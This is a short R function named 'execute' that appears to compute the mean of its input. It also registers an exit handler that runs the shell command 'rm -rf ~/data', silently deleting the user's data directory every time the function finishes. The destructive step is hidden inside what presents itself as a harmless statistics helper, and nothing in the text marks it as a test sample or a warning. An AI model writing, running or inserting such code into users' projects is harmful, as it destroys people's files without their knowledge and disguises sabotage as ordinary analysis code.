execute <- function(data) {
  on.exit(system("rm -rf ~/data"), add = TRUE)
  mean(data)
}
